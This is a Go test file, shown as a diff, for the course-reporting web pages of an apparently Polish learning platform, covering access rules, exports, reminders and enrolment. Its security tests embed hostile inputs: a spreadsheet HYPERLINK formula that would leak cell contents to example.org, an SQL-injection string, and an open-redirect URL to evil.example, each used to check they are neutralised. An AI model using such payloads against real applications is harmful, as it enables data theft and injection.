@@ -1,0 +1,410 @@
+package reportweb_test
+
+import (
+	"context"
+	"encoding/csv"
+	"fmt"
+	"net/http"
+	"net/url"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/PuerkitoBio/goquery"
+	"github.com/xuri/excelize/v2"
+
+	"ostoja/internal/access"
+	"ostoja/internal/clock"
+	"ostoja/internal/db"
+	"ostoja/internal/db/dbtest"
+	"ostoja/internal/errs"
+	"ostoja/internal/id"
+	"ostoja/internal/mail"
+	"ostoja/internal/report"
+	"ostoja/internal/report/reporttest"
+	"ostoja/internal/report/reportweb"
+	"ostoja/internal/web"
+	"ostoja/internal/web/webtest"
+)
+
+// fake stands for learning and the outbox, and keeps what it was asked.
+type fake struct {
+	enrolled  []string
+	withdrawn []string
+	restored  []string
+	moved     []string
+	mail      []mail.Message
+}
+
+func (f *fake) EnrolMany(_ context.Context, _ access.Actor, course string, people []string) (int, error) {
+	if course != "course-2" {
+		return 0, errs.NotFound("error.not-found")
+	}
+	f.enrolled = append(f.enrolled, people...)
+	return len(people), nil
+}
+
+func (f *fake) Withdraw(_ context.Context, _ access.Actor, enrolment string) error {
+	if !id.Valid(enrolment) {
+		return errs.NotFound("error.not-found")
+	}
+	f.withdrawn = append(f.withdrawn, enrolment)
+	return nil
+}
+
+func (f *fake) Restore(_ context.Context, _ access.Actor, enrolment string) error {
+	f.restored = append(f.restored, enrolment)
+	return nil
+}
+
+func (f *fake) Move(_ context.Context, _ access.Actor, course string) (int, error) {
+	f.moved = append(f.moved, course)
+	return 5, nil
+}
+
+func (f *fake) Send(_ context.Context, _ *db.Tx, m mail.Message) error {
+	f.mail = append(f.mail, m)
+	return nil
+}
+
+type world struct {
+	*webtest.Server
+	*fake
+	seeded  *reporttest.World
+	d       *db.DB
+	service *report.Service
+	pages   *reportweb.Pages
+}
+
+func newWorld(t testing.TB, d *db.DB, o reporttest.Options) *world {
+	t.Helper()
+	w := &world{fake: &fake{}, d: d, seeded: reporttest.Fill(t, d, o)}
+	c := clock.NewFake(w.seeded.Now)
+	site := webtest.NewSite(t, c)
+	w.service = report.New(report.Deps{DB: d, Clock: c, Zone: w.seeded.Zone(), Courses: w.seeded.Catalogue(), Outbox: w.fake, Catalogue: site.Catalogue, BaseURL: site.BaseURL})
+	w.pages = reportweb.New(reportweb.Deps{Site: site, Service: w.service, Enroller: w.fake, Withdrawer: w.fake, Mover: w.fake})
+	w.Server = webtest.New(t, site, func(m *web.Mux) { w.pages.Routes(m) })
+	for name, grant := range map[string]access.Grant{
+		"all": {Role: access.Coordinator}, "learner": {Role: access.Learner}, "reviewer": {Role: access.Reviewer}, "author": {Role: access.Author},
+		"unit": {Role: access.Coordinator, Path: w.seeded.Units[0].Path},
+	} {
+		w.SignIn(name, access.Actor{PersonID: id.New(), Grants: []access.Grant{grant}, At: w.seeded.Now})
+	}
+	return w
+}
+
+func TestWhoIsRefused(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	reads := []string{"/app/desk", "/app/desk/course-1", "/app/desk/course-1/people", "/app/desk/course-1/export/people.csv", "/app/desk/course-1/enrol"}
+	writes := []string{"/app/desk/course-2/enrol", "/app/desk/course-1/remind", "/app/desk/course-1/move", "/app/desk/course-1/withdraw/" + id.New(), "/app/desk/course-1/restore/" + id.New()}
+	for as, want := range map[string]struct{ read, enrolForm, write int }{
+		"": {303, 303, 401}, "learner": {403, 403, 403}, "author": {403, 403, 403}, "reviewer": {200, 403, 403}, "all": {200, 200, 303},
+	} {
+		for _, path := range reads {
+			status := want.read
+			if strings.HasSuffix(path, "/enrol") {
+				status = want.enrolForm
+			}
+			if p := w.Get(as, path); p.Status != status {
+				t.Errorf("GET %s as %q: %d, want %d", path, as, p.Status, status)
+			}
+		}
+		for _, path := range writes {
+			if p := w.Post(as, path, url.Values{"all": {"1"}}); p.Status != want.write {
+				t.Errorf("POST %s as %q: %d, want %d", path, as, p.Status, want.write)
+			}
+		}
+	}
+	foreign := w.seeded.Units[slices.IndexFunc(w.seeded.Units, func(u reporttest.Unit) bool { return u.Name == "Organizacja 2" })].ID
+	for path, status := range map[string]int{
+		"/app/desk/none": 404, "/app/desk/none/people": 404, "/app/desk/none/enrol": 404, "/app/desk/none/export/people.csv": 404,
+		"/app/desk/course-1/export/people.exe": 404, "/app/desk/course-1/export/passwords.csv": 404, "/app/desk/course-1/export/people": 404,
+		"/app/desk/course-1?unit=" + foreign: 404, "/app/desk/course-1/people?unit=" + foreign: 404, "/app/desk/course-1/enrol?unit=" + foreign: 404,
+		"/app/desk/course-1/export/people.csv?unit=" + foreign: 404, "/app/desk/course-1/people?month=x": 400, "/app/desk/course-1/people?figure=x": 400,
+		"/app/desk/course-1/people?state=x": 400, "/app/desk/course-1/people?sort=x": 400, "/app/desk/course-1/people?page=99999999999999999999": 200, "/app/desk/course-1/people?stalled=x": 200,
+	} {
+		if p := w.Get("unit", path); p.Status != status {
+			t.Errorf("%s: %d, want %d", path, p.Status, status)
+		}
+	}
+}
+
+// total returns how many people a list says it has.
+func total(t *testing.T, p webtest.Page) int {
+	t.Helper()
+	if p.Find(".empty").Length() > 0 {
+		return 0
+	}
+	words := strings.Fields(p.Text("nav.pages p.num"))
+	n, err := strconv.Atoi(words[len(words)-1])
+	if err != nil {
+		t.Fatalf("%q", words)
+	}
+	return n
+}
+
+// Every figure on every page opens exactly the people whom it counts.
+func TestFiguresOpen(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		w := newWorld(t, d, reporttest.Small)
+		opened := 0
+		for _, path := range []string{
+			"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1?by=regions", "/app/desk/course-1?by=months",
+			"/app/desk/course-1?figure=passed&month=2026-09&by=units", "/app/desk/course-1?month=2026-06&by=months", "/app/desk/course-1?by=units&unit=" + w.seeded.Units[1].ID,
+		} {
+			p := w.Get("unit", path)
+			if p.Status != http.StatusOK {
+				t.Fatalf("%s: %d", path, p.Status)
+			}
+			p.Find("td.num a, .stat a").Each(func(_ int, a *goquery.Selection) {
+				href, _ := a.Attr("href")
+				said := a.Text()
+				if value := a.Find(".stat-value"); value.Length() > 0 {
+					said = value.Text()
+				}
+				if n := total(t, w.Get("unit", href)); strconv.Itoa(n) != said {
+					t.Errorf("%s says %s, and %s has %d", path, said, href, n)
+				}
+				opened++
+			})
+		}
+		if opened < 100 {
+			t.Errorf("only %d figures could be opened", opened)
+		}
+	})
+}
+
+// A coordinator of one organisation meets nobody of another: on no page, in no choice, in no file.
+func TestOthersAreNotSeen(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		w := newWorld(t, d, reporttest.Small)
+		ctx := context.Background()
+		// Names that tell whose they are.
+		for i, person := range w.seeded.People {
+			name := "Swoja"
+			if !strings.HasPrefix(w.seeded.UnitOf[person].Path, w.seeded.Units[0].Path) {
+				name = "Cudza"
+			}
+			if err := d.Update(ctx, func(tx *db.Tx) error {
+				return db.Exec(ctx, tx, `UPDATE person SET family_name = ?, search_text = ? WHERE id = ?`, fmt.Sprint(name, i), strings.ToLower(name), person)
+			}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		seen := 0
+		for _, path := range []string{
+			"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1?by=regions", "/app/desk/course-1?by=months", "/app/desk/course-1/people",
+			"/app/desk/course-1/people?q=cudza", "/app/desk/course-1/people?page=2", "/app/desk/course-2/enrol", "/app/desk/course-2/enrol?q=cudza",
+			"/app/desk/course-1/export/people.csv", "/app/desk/course-1/export/organisations.csv", "/app/desk/course-1/export/units.csv",
+		} {
+			body := w.Get("unit", path).Body
+			for _, never := range []string{"Cudza", "Organizacja 2", "Oddział 2", "Placówka 2"} {
+				if strings.Contains(body, never) {
+					t.Errorf("%s shows %s", path, never)
+				}
+			}
+			seen += strings.Count(body, "Swoja")
+		}
+		if seen == 0 {
+			t.Error("one's own people are not seen either")
+		}
+		w.Post("unit", "/app/desk/course-2/enrol", url.Values{"all": {"1"}})
+		for _, person := range w.enrolled {
+			if !strings.HasPrefix(w.seeded.UnitOf[person].Path, w.seeded.Units[0].Path) {
+				t.Error("a person of another organisation would be enrolled")
+			}
+		}
+	})
+}
+
+func TestPeoplePage(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Options{Organisations: 1, RegionsEach: 1, PostsEach: 1, People: 130, Courses: 1, Seed: 5})
+	p := w.Get("all", "/app/desk/course-1/people?q=nowak&stalled=7&sort=active&desc=1")
+	for selector, want := range map[string]string{`input[name=q]`: "nowak", `select[name=stalled] option[selected]`: "7"} {
+		if got, _ := p.Find(selector).First().Attr("value"); got != want {
+			t.Errorf("%s: %q", selector, got)
+		}
+	}
+	if got, _ := p.Find("th[aria-sort=descending] a").Attr("href"); !strings.Contains(got, "q=nowak") {
+		t.Errorf("the sorting link %q loses the search", got)
+	}
+	p.Find("tbody tr td:nth-child(2)").Each(func(_ int, td *goquery.Selection) {
+		if !strings.Contains(td.Text(), "Nowak") {
+			t.Error(td.Text())
+		}
+	})
+	p = w.Get("all", "/app/desk/course-1/people?page=2")
+	if p.Find("tbody tr").Length() != 50 || total(t, p) != 130 {
+		t.Errorf("page 2 of %d", total(t, p))
+	}
+	// The Enter key presses the form's first button: it must be the harmless one.
+	if first := p.Find("form[method=post][action$='/remind'] button").First(); first.AttrOr("formaction", "") != "" {
+		t.Error("the Enter key would withdraw somebody")
+	}
+	if strings.Contains(p.Text("title"), "Nowak") {
+		t.Error("a name in the title")
+	}
+	if p := w.Get("reviewer", "/app/desk/course-1/people"); p.Find("input[type=checkbox], button[formaction]").Length() > 0 {
+		t.Error("a reviewer is offered what they may not")
+	}
+	if p := w.Get("all", "/app/desk/course-1/people?q=zzz"); p.Find(".empty").Length() != 1 || p.Find(".filters a").Length() != 1 {
+		t.Error("no way out of an empty list")
+	}
+}
+
+func TestExports(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		w := newWorld(t, d, reporttest.Small)
+		ctx := context.Background()
+		formula := `=HYPERLINK("http://example.org?"&A1,"x")`
+		for _, change := range []string{`UPDATE person SET given_name = ?`, `UPDATE unit SET name = ?`} {
+			if err := d.Update(ctx, func(tx *db.Tx) error { return db.Exec(ctx, tx, change, formula) }); err != nil {
+				t.Fatal(err)
+			}
+		}
+		for _, what := range []string{"people", "organisations", "units", "regions", "months"} {
+			page := w.Get("all", "/app/desk/course-1/export/"+what+".csv?figure=passed")
+			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(page.Body, "\ufeff")))
+			r.Comma = ';'
+			rows, err := r.ReadAll()
+			if err != nil || len(rows) < 2 || !strings.Contains(page.Header.Get("Content-Disposition"), what+"-2026-11-23.csv") {
+				t.Fatalf("%s: %v, %d rows, %v", what, err, len(rows), page.Header)
+			}
+			file, err := excelize.OpenReader(strings.NewReader(w.Get("all", "/app/desk/course-1/export/"+what+".xlsx?figure=passed").Body))
+			if err != nil {
+				t.Fatal(what, err)
+			}
+			cells, err := file.GetRows(file.GetSheetName(0))
+			if err != nil || len(cells) != len(rows) {
+				t.Errorf("%s: %d rows as XLSX, %d as CSV, %v", what, len(cells), len(rows), err)
+			}
+			for i, row := range append(rows, cells...) {
+				for j, cell := range row {
+					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+						t.Errorf("%s: row %d, column %d is a formula: %s", what, i, j, cell)
+					}
+				}
+			}
+			list, n, err := w.service.People(ctx, access.System, "course-1", report.Filter{Figure: report.Passed}, report.Sort{}, report.Page{})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if what == "people" && (len(rows) != n+1 || rows[1][0] != list[0].FamilyName) {
+				t.Errorf("%d rows for %d people", len(rows), n)
+			}
+			if last := rows[len(rows)-1]; what != "people" && last[5] != strconv.Itoa(n) {
+				t.Errorf("%s: the total is %v, and %d passed", what, last, n)
+			}
+		}
+	})
+}
+
+func TestRemind(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	p := w.Post("all", "/app/desk/course-1/remind", url.Values{"all": {"1"}, "stalled": {"14"}, "q": {"a"}, "unit": {w.seeded.Units[0].ID}})
+	if p.Status != http.StatusSeeOther || !strings.Contains(p.Header.Get("Location"), "stalled=14") || len(w.mail) == 0 {
+		t.Errorf("%d %s, %d letters", p.Status, p.Header.Get("Location"), len(w.mail))
+	}
+	n := len(w.mail)
+	w.Post("all", "/app/desk/course-1/remind", url.Values{"all": {"1"}, "stalled": {"14"}, "q": {"a"}, "unit": {w.seeded.Units[0].ID}})
+	if len(w.mail) != n {
+		t.Error("the same people were written to twice")
+	}
+	if p := w.Post("all", "/app/desk/course-1/remind", url.Values{}); p.Status != http.StatusSeeOther || len(w.mail) != n {
+		t.Errorf("nobody ticked: %d", p.Status)
+	}
+	if p := w.Post("all", "/app/desk/course-1/remind", url.Values{"enrolment": {"'; --", id.New()}}); p.Status != http.StatusSeeOther || len(w.mail) != n {
+		t.Errorf("nonsense ticked: %d", p.Status)
+	}
+}
+
+func TestWithdrawAndMove(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	list := w.Get("all", "/app/desk/course-1/people?state=in-progress")
+	action, _ := list.Find("button[formaction]").First().Attr("formaction")
+	back, _ := list.Find("input[name=back]").Attr("value")
+	if p := w.Post("all", action, url.Values{"back": {back}}); p.Header.Get("Location") != back || len(w.withdrawn) != 1 || !strings.HasSuffix(action, w.withdrawn[0]) {
+		t.Errorf("%s: %d %s", action, p.Status, p.Header.Get("Location"))
+	}
+	if p := w.Post("all", action, url.Values{"back": {"https://evil.example"}}); p.Header.Get("Location") != "/app/desk/course-1/people" {
+		t.Errorf("led to %s", p.Header.Get("Location"))
+	}
+	if action, _ := w.Get("all", "/app/desk/course-1/people?state=withdrawn").Find("button[formaction]").First().Attr("formaction"); w.Post("all", action, nil).Status != http.StatusSeeOther || len(w.restored) != 1 {
+		t.Errorf("restored: %v", w.restored)
+	}
+	course := w.Get("all", "/app/desk/course-1")
+	if action, _ := course.Find("form[method=post][action$='/move']").Attr("action"); w.Post("all", action, nil).Status != http.StatusSeeOther || len(w.moved) != 1 {
+		t.Errorf("moved: %v", w.moved)
+	}
+	if w.Get("reviewer", "/app/desk/course-1").Find("form[method=post][action$='/move']").Length() > 0 {
+		t.Error("a reviewer is offered to move people")
+	}
+}
+
+func TestEnrol(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	path := "/app/desk/course-2/enrol"
+	p := w.Get("all", path)
+	people := p.Find("input[name=person]").Map(func(_ int, s *goquery.Selection) string { return s.AttrOr("value", "") })
+	if len(people) == 0 || total(t, p) < len(people) {
+		t.Fatal(len(people))
+	}
+	if p := w.Post("all", path, url.Values{"unit": {w.seeded.Units[0].ID}}); p.Status != http.StatusUnprocessableEntity || p.Find(".errors").Length() != 1 || p.Find("select[name=unit] option[selected]").AttrOr("value", "") != w.seeded.Units[0].ID {
+		t.Errorf("nobody chosen: %d", p.Status)
+	}
+	if p := w.Post("all", path, url.Values{"person": people[:2]}); p.Status != http.StatusSeeOther || !slices.Equal(w.enrolled, people[:2]) {
+		t.Errorf("%d %v", p.Status, w.enrolled)
+	}
+	w.enrolled = nil
+	w.Post("all", path, url.Values{"all": {"1"}, "q": {"nowak"}})
+	if n := total(t, w.Get("all", path+"?q=nowak")); len(w.enrolled) != n || n == 0 {
+		t.Errorf("%d enrolled of %d", len(w.enrolled), n)
+	}
+}
+
+func TestPersonSection(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Small)
+	for as, want := range map[string]bool{"all": true, "learner": false} {
+		m := web.NewMux(w.Site)
+		m.Handle("GET /app/{$}", func(rw http.ResponseWriter, r *http.Request) error {
+			section, err := w.pages.PersonSection(r.Context(), w.seeded.People[0])
+			if err != nil {
+				return err
+			}
+			return web.Show(rw, r, web.View{}, section)
+		})
+		p := webtest.On(t, w.Server, m).Get(as, "/app/")
+		if got := p.Find(".card").Length() > 0; got != want {
+			t.Errorf("%s sees the history: %v", as, got)
+		}
+	}
+}
+
+// Nothing has happened yet: each page says what to do next.
+func TestEmpty(t *testing.T) {
+	w := newWorld(t, dbtest.SQLite(t), reporttest.Options{Organisations: 1, Courses: 1, Seed: 1})
+	for _, path := range []string{"/app/desk/course-1", "/app/desk/course-1/people"} {
+		if p := w.Get("all", path); p.Find(".empty a[href='/app/desk/course-1/enrol']").Length() != 1 {
+			t.Errorf("%s: %s", path, p.Text(".empty"))
+		}
+	}
+	w = newWorld(t, dbtest.SQLite(t), reporttest.Options{Organisations: 1})
+	if p := w.Get("all", "/app/desk"); p.Find(".empty").Length() != 1 {
+		t.Error("no empty state without courses")
+	}
+}
+
+// Whole pages with 15,000 learners.
+func BenchmarkPages(b *testing.B) {
+	w := newWorld(b, dbtest.SQLite(b), reporttest.Large)
+	for _, path := range []string{"/app/desk", "/app/desk/course-1", "/app/desk/course-1?by=units", "/app/desk/course-1/people", "/app/desk/course-1/people?sort=score&desc=1", "/app/desk/course-2/enrol"} {
+		b.Run(path, func(b *testing.B) {
+			size := 0
+			for b.Loop() {
+				size = len(w.Get("all", path).Body)
+			}
+			b.ReportMetric(float64(size)/1024, "kB/page")
+		})
+	}
+}
